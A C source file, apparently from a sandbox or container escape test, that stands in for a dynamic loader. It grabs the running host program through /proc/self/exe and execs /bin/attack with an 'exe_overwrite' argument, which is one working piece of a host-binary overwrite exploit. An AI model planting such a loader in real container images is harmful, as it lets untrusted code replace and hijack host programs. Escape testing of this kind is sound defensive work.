/* Stands where the tree's dynamic loader should, so that whoever runs a program of the host
 * in the tree runs this: it holds that program by /proc/self/exe and becomes the attack. */
#if defined(__x86_64__)
static long call(long number, long a, long b, long c, long d)
{
    register long r10 __asm__("r10") = d;
    long result;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return result;
}
enum { OPENAT = 257, EXECVE = 59, EXIT = 60, WRITE = 1 };
#elif defined(__aarch64__)
static long call(long number, long a, long b, long c, long d)
{
    register long x8 __asm__("x8") = number;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
}
enum { OPENAT = 56, EXECVE = 221, EXIT = 93, WRITE = 64 };
#endif

void _start(void)
{
    static const char exe[] = "/proc/self/exe", attack[] = "/bin/attack";
    static const char name[] = "exe_overwrite";
    char number[2] = {'0', 0};
    call(WRITE, 2, (long)"host program\n", 13, 0);
    long fd = call(OPENAT, -100, (long)exe, 010000000 /* O_PATH */, 0);
    if (fd < 0 || fd > 9)
        call(EXIT, 90, 0, 0, 0);
    number[0] += fd;
    const char *arguments[] = {attack, name, number, 0};
    const char *environment[] = {0};
    call(EXECVE, (long)attack, (long)arguments, (long)environment, 0);
    call(EXIT, 91, 0, 0, 0);
}
